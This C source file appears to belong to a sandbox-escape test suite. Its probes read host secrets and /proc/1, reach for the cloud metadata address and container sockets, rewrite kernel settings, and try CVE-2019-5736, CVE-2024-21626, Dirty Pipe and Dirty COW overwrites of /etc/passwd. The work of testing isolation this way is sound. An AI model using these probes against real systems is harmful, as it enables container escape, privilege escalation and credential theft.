/* SPDX-License-Identifier: MIT */
/* What can be seen, read and written of the host: its files, processes, settings and sockets. */
#include "../attack.h"

#include <arpa/inet.h>
#include <dirent.h>
#include <fcntl.h>
#include <signal.h>
#include <stdint.h>
#include <sys/mman.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <time.h>

static bool contains(const char *path, const char *word)
{
	static char text[1 << 20];
	int fd = open(path, O_RDONLY | O_NONBLOCK);
	ssize_t n = fd < 0 ? -1 : read(fd, text, sizeof(text) - 1);
	if (fd >= 0)
		close(fd);
	return n > 0 && memmem(text, (size_t)n, word, strlen(word));
}

/* The argument: a word that stands in the environment, the command line and the working directory of the programs that
 * started us. */
static void supervisors(char **args)
{
	static const char *const files[] = { "environ", "cmdline", "maps", "mountinfo", "stack", "auxv" };
	const char *word = argument(args, 0, "?");
	char path[300], link[1024];
	DIR *d = opendir("/proc");
	int seen = 0;
	for (struct dirent *e; d && (e = readdir(d));) {
		if (e->d_name[0] < '0' || e->d_name[0] > '9' || atoi(e->d_name) == getpid())
			continue;
		seen++;
		for (size_t i = 0; i < sizeof(files) / sizeof(files[0]); i++) {
			snprintf(path, sizeof(path), "/proc/%s/%s", e->d_name, files[i]);
			if (contains(path, word))
				escaped("%s tells of the host", path);
		}
		snprintf(path, sizeof(path), "/proc/%s/cwd", e->d_name);
		ssize_t n = readlink(path, link, sizeof(link) - 1);
		if (n > 0 && memmem(link, (size_t)n, word, strlen(word)))
			escaped("%s is the host's", path);
	}
	held("%d other processes, none of the host", seen);
}

/* What init has: its memory, descriptors, program, root and working directory. */
static void init_files(char **args)
{
	static const char *const files[] = { "mem", "environ", "maps", "exe", "auxv", "stack", "syscall", "pagemap" };
	char path[64], byte;
	(void)args;
	for (size_t i = 0; i < sizeof(files) / sizeof(files[0]); i++) {
		snprintf(path, sizeof(path), "/proc/1/%s", files[i]);
		int fd = open(path, O_RDONLY);
		if (fd < 0) {
			held("%s: %s", path, strerror(errno));
			continue;
		}
		bool memory = strcmp(files[i], "mem") == 0;
		/* where a static program lies */
		if (memory ? pread(fd, &byte, 1, 0x400000) == 1 : read(fd, &byte, 1) == 1)
			escaped("%s can be read", path);
		close(fd);
	}
	char link[256];
	for (int fd = 0; fd < 10; fd++) {
		snprintf(path, sizeof(path), "/proc/1/fd/%d", fd);
		if (readlink(path, link, sizeof(link)) > 0 || open(path, O_RDONLY | O_NONBLOCK) >= 0)
			escaped("%s is told", path);
	}
	judge("/proc/1/root", open("/proc/1/root/", O_RDONLY | O_DIRECTORY));
	judge("/proc/1/cwd", open("/proc/1/cwd/", O_RDONLY | O_DIRECTORY));
}

/* The program that the host runs next, by the link to the one that runs now (CVE-2019-5736). */
static void overwrite_programs(char **args)
{
	static const char *const programs[] = {
		"/proc/1/exe",      "/proc/self/exe", "/usr/bin/env", "/bin/sh", "/lib64/ld-linux-x86-64.so.2",
		"/etc/ld.so.cache", "/etc/passwd"
	};
	(void)args;
	for (size_t i = 0; i < sizeof(programs) / sizeof(programs[0]); i++) {
		if (strcmp(programs[i], "/proc/self/exe") == 0) { /* ours, and busy: by a descriptor, once we are another */
			char link[64];
			int fd = open(programs[i], O_PATH);
			snprintf(link, sizeof(link), "/proc/self/fd/%d", fd);
			judge(link, open(link, O_WRONLY | O_APPEND));
			continue;
		}
		judge(programs[i], open(programs[i], O_WRONLY | O_APPEND));
	}
}

/* The host's folders through descriptors and links that were left open (CVE-2024-21626). Argument: a file of the host.
 */
static void through_descriptors(char **args)
{
	const char *canary = argument(args, 0, "/nothing");
	char path[1200];
	int open_ones = 0;
	for (int fd = 0; fd < 4096; fd++) {
		struct stat st;
		if (fstat(fd, &st) < 0)
			continue;
		if (fd > 2)
			escaped("descriptor %d is open", fd);
		open_ones++;
		snprintf(path, sizeof(path), "/proc/self/fd/%d/../../../../../../../../..%s", fd, canary);
		if (access(path, F_OK) == 0)
			escaped("%s", path);
	}
	static const char *const starts[] = {
		"/proc/self/cwd",         "/proc/self/root", "/proc/1/cwd", "/proc/1/root", "..",
		"/proc/thread-self/root", "/dev/fd/0",       "/dev/fd/1"
	};
	for (size_t i = 0; i < sizeof(starts) / sizeof(starts[0]); i++) {
		snprintf(path, sizeof(path), "%s/../../../../../../../../../..%s", starts[i], canary);
		if (access(path, F_OK) == 0)
			escaped("%s", path);
	}
	held("%d descriptors, no way out through them", open_ones);
}

/* Files whose names say what they are worth, and a canary (the argument). */
static void secrets(char **args)
{
	static const char *const places[] = {
		"/etc/shadow",
		"/etc/gshadow",
		"/etc/sudoers",
		"/etc/ssh",
		"/etc/machine-id",
		"/root/.ssh",
		"/root/.bashrc",
		"/root/.aws",
		"/root/.kube",
		"/root/.docker",
		"/var/run/secrets",
		"/run/secrets",
		"/var/run/docker.sock",
		"/run/docker.sock",
		"/run/containerd",
		"/run/crio",
		"/run/podman",
		"/run/dbus",
		"/run/systemd",
		"/run/user",
		"/var/lib/docker",
		"/var/lib/kubelet",
		"/var/log",
		"/var/spool",
		"/boot",
		"/srv",
		"/mnt",
		"/media",
		"/sys/kernel",
		"/sys/fs",
		"/sys/class",
		"/proc/kcore",
		"/proc/kallsyms",
		"/proc/config.gz",
		"/proc/keys",
		"/proc/timer_list",
		"/proc/sched_debug",
		"/proc/kpagecount",
		"/proc/slabinfo",
		"/proc/vmallocinfo",
		"/.dockerenv",
	};
	char byte;
	const char *canary = argument(args, 0, "/nothing");
	for (size_t i = 0; i <= sizeof(places) / sizeof(places[0]); i++) {
		const char *path = i < sizeof(places) / sizeof(places[0]) ? places[i] : canary;
		struct stat st;
		if (stat(path, &st) < 0)
			continue;
		if (S_ISDIR(st.st_mode)) {
			DIR *d = opendir(path);
			int n = 0;
			while (d && readdir(d))
				n++;
			if (n > 2)
				escaped("%s has %d entries", path, n - 2);
			continue;
		}
		int fd = open(path, O_RDONLY | O_NONBLOCK);
		if (fd >= 0 && read(fd, &byte, 1) == 1)
			escaped("%s can be read", path);
		if (fd >= 0)
			close(fd);
	}
	held("nothing of the host's");
}

/* Settings of the kernel (CVE-2022-0811 wrote core_pattern so). An argument: only those whose path begins with it. */
static void settings(char **args)
{
	static const char *const files[] = {
		"/proc/sys/kernel/core_pattern",
		"/proc/sys/kernel/modprobe",
		"/proc/sys/kernel/hostname",
		"/proc/sys/kernel/domainname",
		"/proc/sys/vm/drop_caches",
		"/proc/sys/vm/overcommit_memory",
		"/proc/sys/net/ipv4/ip_forward",
		"/proc/sys/net/ipv4/conf/all/route_localnet",
		"/proc/sys/fs/file-max",
		"/proc/sys/fs/binfmt_misc/register",
		"/proc/sys/user/max_user_namespaces",
		"/proc/sys/user/max_inotify_instances",
		"/proc/sysrq-trigger",
		"/proc/irq/default_smp_affinity",
		"/proc/1/uid_map",
		"/proc/1/setgroups",
		"/proc/1/timens_offsets",
		"/proc/1/attr/current",
		"/sys/kernel/uevent_helper",
		"/sys/kernel/mm/ksm/run",
		"/sys/fs/cgroup/cgroup.procs",
		"/sys/fs/cgroup/memory/release_agent",
	};
	const char *only = argument(args, 0, "/");
	for (size_t i = 0; i < sizeof(files) / sizeof(files[0]); i++) {
		if (strncmp(files[i], only, strlen(only)) != 0)
			continue;
		char text[256];
		int from = open(files[i], O_RDONLY | O_NONBLOCK);
		ssize_t n = from < 0 ? -1 : read(from, text, sizeof(text));
		int to = open(files[i], O_WRONLY | O_NONBLOCK);
		if (to < 0)
			continue;
		/* what is there already: where it works, nothing changes */
		if (n > 0 && write(to, text, (size_t)n) == n)
			escaped("%s can be set", files[i]);
		close(to);
	}
	held("no setting");
}

static void control_groups(char **args)
{
	struct stat st;
	(void)args;
	if (stat("/sys/fs/cgroup", &st) == 0)
		escaped("/sys/fs/cgroup is there");
	char line[512];
	FILE *f = fopen("/proc/self/mountinfo", "r");
	while (f && fgets(line, sizeof(line), f))
		if (strstr(line, " - cgroup"))
			escaped("a cgroup file system is mounted");
	f = fopen("/proc/self/cgroup", "r");
	while (f && fgets(line, sizeof(line), f)) {
		char *path = strrchr(line, ':');
		/* in a session each command has a group of its own below, which has a number for a name */
		if (path && (strncmp(path, ":/", 2) != 0 || path[2 + strspn(path + 2, "0123456789")] != '\n'))
			escaped("the group's place on the host is told: %.60s", path);
	}
	held("no control group");
}

/* Arguments: a port of the host's loopback, the name of an abstract socket, the path of a socket. */
static void connections(char **args)
{
	struct sockaddr_un un = { .sun_family = AF_UNIX };
	const char *name = argument(args, 1, "none"), *path = argument(args, 2, "/run/docker.sock");
	struct timespec before, after;
	struct {
		const char *host;
		int port;
	} where[] = { { "127.0.0.1", atoi(argument(args, 0, "1")) },
		          { "169.254.169.254", 80 },
		          { "10.0.0.1", 443 },
		          { "1.1.1.1", 53 },
		          { "192.168.1.1", 80 },
		          { "255.255.255.255", 67 } };
	clock_gettime(CLOCK_MONOTONIC, &before);
	for (size_t i = 0; i < sizeof(where) / sizeof(where[0]); i++) {
		struct sockaddr_in in = { .sin_family = AF_INET, .sin_port = htons((uint16_t)where[i].port) };
		inet_pton(AF_INET, where[i].host, &in.sin_addr);
		int s = socket(AF_INET, i ? SOCK_STREAM | SOCK_NONBLOCK : SOCK_STREAM, 0);
		int r = connect(s, (struct sockaddr *)&in, sizeof(in));
		if (r < 0 && errno == EINPROGRESS)
			escaped("%s: a packet is on its way", where[i].host);
		else
			judge(where[i].host, r);
		close(s);
	}
	struct sockaddr_in dns = { .sin_family = AF_INET, .sin_port = htons(53) };
	inet_pton(AF_INET, "8.8.8.8", &dns.sin_addr);
	judge("a name server", sendto(socket(AF_INET, SOCK_DGRAM, 0), "x", 1, 0, (struct sockaddr *)&dns, sizeof(dns)));
	snprintf(un.sun_path + 1, sizeof(un.sun_path) - 1, "%s", name);
	judge("abstract socket", connect(socket(AF_UNIX, SOCK_STREAM, 0), (struct sockaddr *)&un,
	                                 (socklen_t)(offsetof(struct sockaddr_un, sun_path) + 1 + strlen(name))));
	snprintf(un.sun_path, sizeof(un.sun_path), "%s", path);
	judge(path, connect(socket(AF_UNIX, SOCK_STREAM, 0), (struct sockaddr *)&un, sizeof(un)));
	clock_gettime(CLOCK_MONOTONIC, &after);
	if (after.tv_sec - before.tv_sec > 20)
		printf("slow: %ld s\n", (long)(after.tv_sec - before.tv_sec));
}

/* Whether an engine answers: it greets whom it serves, and closes the connection of anybody else. Argument: its socket.
 */
static void ask_engine(char **args)
{
	struct sockaddr_un un = { .sun_family = AF_UNIX };
	struct timeval patience = { 5, 0 };
	char greeting[64];
	int s = socket(AF_UNIX, SOCK_STREAM, 0);
	snprintf(un.sun_path, sizeof(un.sun_path), "%s", argument(args, 0, "/engine.sock"));
	(void)setsockopt(s, SOL_SOCKET, SO_RCVTIMEO, &patience, sizeof(patience));
	if (connect(s, (struct sockaddr *)&un, sizeof(un)) < 0) {
		held("connecting: %s", strerror(errno));
		return;
	}
	(void)!write(s, "hello\n", 6);
	ssize_t n = read(s, greeting, sizeof(greeting));
	if (n > 0)
		escaped("an engine outside answers: %zd bytes", n);
	else
		held("no answer: %s", n < 0 ? strerror(errno) : "it closed the connection");
}

/* Dies so that the kernel writes a core file, where it does. The parent looks for it. */
static void core_dump(char **args)
{
	(void)args;
	struct rlimit most;
	getrlimit(RLIMIT_CORE, &most);
	most.rlim_cur = most.rlim_max;
	setrlimit(RLIMIT_CORE, &most);
	pid_t child = fork();
	if (child == 0)
		abort();
	int status;
	waitpid(child, &status, 0);
	if (WCOREDUMP(status))
		escaped("a core was dumped");
	else
		held("no core (signal %d)", WTERMSIG(status));
}

/* A program that belongs to another user and has the set-uid bit: the argument. It prints its effective uid. */
static void set_uid(char **args)
{
	const char *program = argument(args, 0, "/usr/bin/su");
	pid_t child = fork();
	if (child == 0) {
		execl(program, program, "who", NULL);
		_exit(99);
	}
	waitpid(child, NULL, 0);
	chmod("/proc/self/exe", 06755);
}

static void who(char **args)
{
	(void)args;
	if (geteuid() != getuid())
		escaped("the set-uid bit counts: %d is %d", (int)getuid(), (int)geteuid());
	else
		held("uid %d", (int)geteuid());
}

/* Writes to a file that is shown read-only, by ways around the check of its open. The argument: that file. */
static void read_only_file(char **args)
{
	const char *path = argument(args, 0, "/etc/passwd");
	judge("open for writing", open(path, O_WRONLY));
	judge("truncate", truncate(path, 0));
	judge("chmod", chmod(path, 0777));
	judge("unlink", unlink(path));
	int fd = open(path, O_RDONLY);
	/* "Dirty Pipe": a pipe whose buffers still say that they may be merged, filled with a page of the file */
	int p[2];
	static char junk[4096];
	if (pipe2(p, O_NONBLOCK) == 0 && fcntl(p[1], F_SETPIPE_SZ, 4096) > 0) {
		if (write(p[1], junk, sizeof(junk)) > 0)
			(void)!read(p[0], junk, sizeof(junk));
		loff_t at = 0;
		if (splice(fd, &at, p[1], NULL, 1, 0) == 1)
			(void)!write(p[1], "ESCAPED", 7);
	}
	/* "Dirty COW": a private copy that is thrown away while /proc/self/mem writes to it */
	char *map = mmap(NULL, 4096, PROT_READ, MAP_PRIVATE, fd, 0);
	int mem = open("/proc/self/mem", O_RDWR);
	if (map != MAP_FAILED && mem >= 0) {
		pid_t racer = fork();
		for (int i = 0; i < 3000; i++)
			if (racer == 0)
				madvise(map, 4096, MADV_DONTNEED);
			else
				(void)!pwrite(mem, "ESCAPED", 7, (off_t)(uintptr_t)map);
		if (racer == 0)
			_exit(0);
		waitpid(racer, NULL, 0);
	}
	char now[8] = "";
	if (pread(open(path, O_RDONLY), now, 7, 0) == 7 && strcmp(now, "ESCAPED") == 0)
		escaped("the file was overwritten");
}

static const struct attack attacks[] = {
	{ "supervisors", supervisors },
	{ "init_files", init_files },
	{ "overwrite_programs", overwrite_programs },
	{ "through_descriptors", through_descriptors },
	{ "secrets", secrets },
	{ "settings", settings },
	{ "control_groups", control_groups },
	{ "connections", connections },
	{ "ask_engine", ask_engine },
	{ "core_dump", core_dump },
	{ "set_uid", set_uid },
	{ "who", who },
	{ "read_only_file", read_only_file },
};
ATTACKS(attacks)
